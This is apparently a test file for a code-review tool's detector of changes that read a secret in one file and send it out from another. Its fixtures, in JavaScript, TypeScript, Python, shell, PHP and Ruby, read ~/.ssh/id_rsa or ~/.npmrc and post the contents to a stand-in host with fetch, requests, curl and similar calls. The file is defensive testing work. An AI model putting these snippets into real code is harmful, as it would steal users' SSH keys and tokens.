import { describe, expect, test } from "vitest";
import type { MemoryTree } from "../../fakes/memory-commits.ts";
import { reviewChange, rulesIn } from "../setting.ts";

const KEY = "credentials/read-and-send";
const READS_JS = `require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa", "utf8")`;
const SENDS_JS = (data: string) =>
  `fetch("https://h.example/c", { method: "POST", body: ${data} });`;

/** A secret is read in one file and sent in another; both are new. */
const PAIRS: { name: string; tree: MemoryTree; at: string }[] = [
  {
    name: "exports.x and require",
    tree: {
      "a.js": `exports.key = ${READS_JS};`,
      "b.js": `const { key } = require("./a");\n${SENDS_JS("key")}`,
    },
    at: "b.js:2",
  },
  {
    name: "module.exports = function",
    tree: {
      "a.js": `module.exports = () => ${READS_JS};`,
      "b.js": `const key = require("./a");\n${SENDS_JS("key()")}`,
    },
    at: "b.js:2",
  },
  {
    name: "a default export",
    tree: {
      "a.mjs": `import fs from "fs";\nexport default fs.readFileSync(process.env.HOME + "/.npmrc");`,
      "b.mjs": `import key from "./a.mjs";\n${SENDS_JS("key")}`,
    },
    at: "b.mjs:2",
  },
  {
    name: "a namespace",
    tree: {
      "a.ts": `import fs from "fs";\nexport const { key } = { key: fs.readFileSync(process.env.HOME + "/.npmrc") };`,
      "b.ts": `import * as all from "./a.js";\n${SENDS_JS("all.key")}`,
    },
    at: "b.ts:2",
  },
  {
    name: "an index that exports everything of another file",
    tree: {
      "lib/index.js": `export * from "./key.js";`,
      "lib/key.js": `import fs from "fs";\nexport const key = () => fs.readFileSync(process.env.HOME + "/.npmrc");`,
      "b.js": `import { key } from "./lib/index.js";\n${SENDS_JS("key()")}`,
    },
    at: "b.js:2",
  },
  {
    name: "a function that sends what it is given",
    tree: {
      "send.js": `exports.send = (data) => ${SENDS_JS("data")}`,
      "b.js": `const { send } = require("./send");\nsend(${READS_JS});`,
    },
    at: "b.js:2",
  },
  {
    name: "a relative import of Python",
    tree: {
      "pkg/__init__.py": "",
      "pkg/a.py": `import os\ndef key():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n`,
      "pkg/b.py": `from .a import key\nimport requests\nrequests.post("https://h.example/c", data=key())\n`,
    },
    at: "pkg/b.py:3",
  },
  {
    name: "a package of Python under src",
    tree: {
      "src/pkg/__init__.py": "",
      "src/pkg/a.py": `import os\nKEY = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n`,
      "main.py": `import pkg.a\nimport requests\nrequests.post("https://h.example/c", data=pkg.a.KEY)\n`,
    },
    at: "main.py:3",
  },
  {
    name: "a folder of Python modules",
    tree: {
      "tools/a.py": `import os\nKEY = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n`,
      "main.py": `from tools import a\nimport requests\nrequests.post("https://h.example/c", data=a.KEY)\n`,
    },
    at: "main.py:3",
  },
  {
    name: "arguments of a shell script",
    tree: {
      "scripts/send.sh": `curl -d "$2" "$1"\n`,
      "go.sh": `bash scripts/send.sh https://h.example/x "$(cat ~/.ssh/id_rsa)"\n`,
    },
    at: "go.sh:1",
  },
  {
    name: "the environment of a shell script",
    tree: {
      "scripts/send.sh": `curl -d "$DATA" https://h.example/x\n`,
      "go.sh": `export DATA=$(cat ~/.ssh/id_rsa)\n./scripts/send.sh\n`,
    },
    at: "go.sh:2",
  },
  {
    name: "what a shell script sources",
    tree: {
      "key.sh": `KEY=$(cat ~/.ssh/id_rsa)\n`,
      "go.sh": `. ./key.sh\ncurl -d "$KEY" https://h.example/x\n`,
    },
    at: "go.sh:2",
  },
  {
    name: "an include of PHP",
    tree: {
      "lib/a.php": `<?php function k() { return file_get_contents(getenv('HOME').'/.ssh/id_rsa'); }`,
      "b.php": `<?php require_once __DIR__ . '/lib/a.php';\nfile_get_contents('http://h.example/?'.k());`,
    },
    at: "b.php:2",
  },
  {
    name: "require_relative of Ruby",
    tree: {
      "lib/a.rb": `def key\n  File.read(File.expand_path("~/.ssh/id_rsa"))\nend\n`,
      "b.rb": `require "net/http"\nrequire_relative "lib/a"\nNet::HTTP.post(URI("http://h.example/"), key)\n`,
    },
    at: "b.rb:3",
  },
];

describe("a secret that one file reads and another one sends", () => {
  test.each(PAIRS)("is followed through $name", async ({ tree, at }) => {
    const review = await reviewChange({}, tree);
    const places = review.findings.filter(({ rule }) => rule === KEY);
    expect(places.map(({ path, line }) => `${path}:${line}`)).toContain(at);
    expect(review.verdict).toBe("malicious");
  });

  test("shows both places as evidence", async () => {
    const { tree } = PAIRS[0] ?? { tree: {} };
    const review = await reviewChange({}, tree);
    const found = review.findings.find(({ rule }) => rule === KEY);
    expect(found?.evidence.map(({ path }) => path)).toEqual(["a.js", "b.js"]);
  });

  test("is followed through files that import one another", async () => {
    const review = await reviewChange(
      {},
      {
        "a.js": `const b = require("./b");\nexports.key = () => ${READS_JS};\nb.go();`,
        "b.js": `const a = require("./a");\nexports.go = () => ${SENDS_JS("a.key()")}`,
      },
    );
    expect(rulesIn(review)).toContain(KEY);
  });
});

describe("only one side of the chain changes", () => {
  const SOURCE = `exports.data = () => ${READS_JS};`;
  const HARMLESS = `exports.data = () => "hi";`;
  const SINK = `const { data } = require("./data");\n${SENDS_JS("data()")}`;

  test("an unchanged file that sends what a changed one reads now is a finding", async () => {
    const review = await reviewChange(
      { "data.js": HARMLESS, "main.js": SINK },
      { "data.js": SOURCE, "main.js": SINK },
    );
    const found = review.findings.find(({ rule }) => rule === KEY);
    expect(found).toMatchObject({ path: "main.js", line: 2, change: "added" });
  });

  test("a new file that sends what an unchanged one reads is a finding", async () => {
    const review = await reviewChange(
      { "data.js": SOURCE },
      { "data.js": SOURCE, "main.js": SINK },
    );
    expect(rulesIn(review)).toContain(KEY);
  });

  test("a chain that was there before is not the change's", async () => {
    const review = await reviewChange(
      { "data.js": SOURCE, "main.js": SINK },
      { "data.js": `${SOURCE}\n// more`, "main.js": `// more\n${SINK}` },
    );
    expect(review.verdict).toBe("clean");
  });

  const LIB = `exports.publish = () => ${SENDS_JS(READS_JS)}`;
  const calledBy = async (caller: string) => {
    const review = await reviewChange({ "lib.js": LIB }, { "lib.js": LIB, "main.js": caller });
    return review.findings.filter(({ path }) => path === "main.js").map(({ rule }) => rule);
  };

  test("what an unchanged file does when it is called is no news of one more caller", async () => {
    expect(await calledBy(`exports.run = () => require("./lib").publish();`)).toEqual([]);
  });

  test("a new file that makes it happen as soon as it is loaded is a finding", async () => {
    expect(await calledBy(`require("./lib").publish();`)).toContain("credentials/read-and-send");
  });
});
